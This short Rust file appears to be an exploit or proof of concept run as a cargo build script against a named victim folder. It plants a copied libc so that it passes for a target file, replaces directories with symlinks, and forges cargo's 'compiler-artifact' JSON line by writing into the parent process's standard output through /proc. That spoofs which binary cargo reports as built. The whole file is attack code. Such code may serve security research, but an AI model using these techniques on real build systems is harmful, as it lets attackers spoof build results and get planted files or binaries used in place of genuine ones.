#![allow(dead_code)]
use std::{fs, io::Write, os::unix, path::Path};

/// The folder of the user's that is attacked.
fn victim() -> String {
    fs::read_to_string("victim.txt").unwrap()
}

fn triple() -> String {
    std::env::var("TARGET").unwrap()
}

/// Put a file that passes for the target's at a place.
fn plant(path: &str) {
    fs::create_dir_all(Path::new(path).parent().unwrap()).unwrap();
    fs::copy("/usr/aarch64-linux-gnu/lib/libc.so.6", path).unwrap();
}

fn link(to: &str, path: &str) {
    fs::create_dir_all(Path::new(path).parent().unwrap()).unwrap();
    let _ = fs::remove_dir_all(path);
    unix::fs::symlink(to, path).unwrap();
}

/// Say in cargo's name that a program was built: its standard output is that of our parent.
fn forge(path: &str) {
    let out = format!("/proc/{}/fd/1", unix::process::parent_id());
    let line = format!(
        "{{\"reason\":\"compiler-artifact\",\"package_id\":\"path+file:///project#small@0.1.0\",\"target\":{{\"name\":\"git\",\
         \"kind\":[\"bin\"],\"crate_types\":[\"bin\"]}},\"profile\":{{\"test\":false}},\"filenames\":[\"{path}\"],\
         \"executable\":\"{path}\",\"fresh\":false}}\n"
    );
    fs::OpenOptions::new().append(true).open(out).unwrap().write_all(line.as_bytes()).unwrap();
}

